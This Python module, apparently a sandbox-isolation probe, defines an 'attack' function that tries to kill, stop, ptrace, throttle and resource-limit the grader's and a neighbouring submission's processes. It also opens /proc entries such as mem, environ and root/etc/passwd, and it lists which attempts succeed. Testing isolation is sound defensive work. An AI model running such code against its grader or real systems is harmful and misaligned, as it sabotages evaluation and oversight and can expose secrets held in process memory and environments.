"""Kills, stops, slows or looks into the processes of the grader and of the submission beside it."""
import ctypes
import os
import resource
import signal


def attack(clues):
    libc = ctypes.CDLL(None, use_errno=True)
    done = []

    def attempt(name, do):
        try:
            if do() != -1:
                done.append(name)
        except OSError:
            pass

    for pid in [*clues["pids"], os.getppid(), -1, 0, -os.getppid()]:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGURG, 0):
            attempt(f"kill {pid} {number}", lambda: os.kill(pid, number))
        attempt(f"tgkill {pid}", lambda: libc.syscall(234, pid, pid, 9))
        attempt(f"tkill {pid}", lambda: libc.syscall(200, pid, 9))
        attempt(f"killpg {pid}", lambda: os.killpg(abs(pid), 9))
        attempt(f"sigqueue {pid}", lambda: libc.syscall(129, pid, 9, bytes(128)))
        attempt(f"affinity {pid}", lambda: os.sched_setaffinity(pid, [0]))
        attempt(f"nice {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
        attempt(f"prlimit {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
        if pid > 0:
            attempt(f"prlimit, look {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU))
        attempt(f"scheduler {pid}", lambda: os.sched_setscheduler(pid, 5, os.sched_param(0)))
        attempt(f"ptrace {pid}", lambda: libc.syscall(101, 16, pid, 0, 0))
        attempt(f"ioprio {pid}", lambda: libc.syscall(251, 1, pid, 0x6000))
        for name in ("mem", "maps", "environ", "cmdline", "cwd/x", "root/etc/passwd", "stat"):
            attempt(f"{name} {pid}", lambda: os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
        for name in ("oom_score_adj", "autogroup", "comm", "clear_refs"):
            attempt(f"{name} {pid}", lambda: os.open(f"/proc/{pid}/{name}", os.O_WRONLY))
    attempt("own nice", lambda: os.nice(-5))
    return done
